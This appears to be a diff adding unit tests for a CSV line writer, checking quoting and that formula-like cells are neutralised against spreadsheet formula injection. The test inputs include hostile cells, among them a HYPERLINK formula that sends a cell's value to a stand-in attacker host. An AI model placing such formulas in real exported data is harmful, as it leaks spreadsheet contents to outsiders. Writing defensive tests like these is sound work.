@@ -1,0 +1,40 @@
+import { describe, expect, it } from 'vitest';
+import { csvLine } from '../../../src/management/csv.ts';
+
+describe('a line of CSV', () => {
+  it('quotes what would end a cell or a line', () => {
+    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', ''])).toBe(
+      'a,"b,c","say ""hi""","two\nlines",\r\n',
+    );
+  });
+
+  it('writes numbers of ours as they are, and nothing where there is nothing', () => {
+    expect(csvLine([-5, 12n, true, undefined, null])).toBe('-5,12,true,,\r\n');
+  });
+
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\tcmd',
+    '\r=1',
+    '\n=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠x',
+    '=HYPERLINK("https://evil.example?x="&A1,"look")',
+  ])('makes %j text for a spreadsheet', (cell) => {
+    const line = csvLine([cell]);
+    expect(line).toMatch(/^"?'/);
+    const inner = line.startsWith('"')
+      ? line.slice(1, -3).replaceAll('""', '"')
+      : line.slice(0, -2);
+    expect(inner).toBe(`'${cell}`);
+  });
+
+  it('leaves text alone that only holds such a sign', () => {
+    expect(csvLine(['a=b', 'x-y', 'me@example.com', "'='"])).toBe("a=b,x-y,me@example.com,'='\r\n");
+  });
+});
